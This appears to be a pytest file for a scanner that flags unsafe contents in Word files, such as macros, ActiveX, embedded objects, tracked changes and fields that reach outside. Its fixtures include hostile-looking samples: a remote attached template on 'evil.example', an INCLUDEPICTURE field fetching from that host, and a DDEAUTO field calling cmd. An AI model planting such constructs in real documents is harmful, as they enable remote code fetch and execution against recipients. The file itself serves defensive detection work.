from collections.abc import Callable

import pytest

from engross.ooxml.safety import unsafe_contents

WordFile = Callable[..., bytes]


def relation(kind: str, target: str) -> bytes:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="http://schemas.example/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    ).encode()


def test_a_plain_document_is_safe(word_file: WordFile) -> None:
    assert unsafe_contents(word_file("<p><r><t>words</t></r></p>")) == ()


@pytest.mark.parametrize(
    ("name", "problem"),
    [
        ("word/vbaProject.bin", "macro project"),
        ("word/activeX/activeX1.bin", "ActiveX"),
        ("word/embeddings/oleObject1.bin", "embedded file"),
    ],
)
def test_active_contents_are_named_with_their_part(
    word_file: WordFile, name: str, problem: str
) -> None:
    (found,) = unsafe_contents(word_file("<p/>", more={name: b"x"}))

    assert found.startswith(name)
    assert problem in found


def test_a_link_that_is_fetched_by_itself_is_named_and_a_hyperlink_is_not(
    word_file: WordFile,
) -> None:
    rels = "word/_rels/settings.xml.rels"
    fetched = relation("attachedTemplate", "http://evil.example/t.dotm")
    clicked = relation("hyperlink", "https://www.penhallowreeve.example")

    assert "evil.example" in unsafe_contents(word_file("<p/>", more={rels: fetched}))[0]
    assert unsafe_contents(word_file("<p/>", more={rels: clicked})) == ()


@pytest.mark.parametrize(
    ("body", "problem"),
    [
        ("<p><ins><r><t>x</t></r></ins></p>", "tracked change"),
        ("<p><r><instrText>INCLUDEPICTURE http://evil.example</instrText></r></p>", "outside"),
        ("<p><fldSimple instr='DDEAUTO c:\\\\cmd'/></p>", "outside"),
        ("<altChunk/>", "chunk"),
    ],
)
def test_what_hides_a_change_or_reaches_outside_is_named(
    word_file: WordFile, body: str, problem: str
) -> None:
    (found,) = unsafe_contents(word_file(body))

    assert problem in found
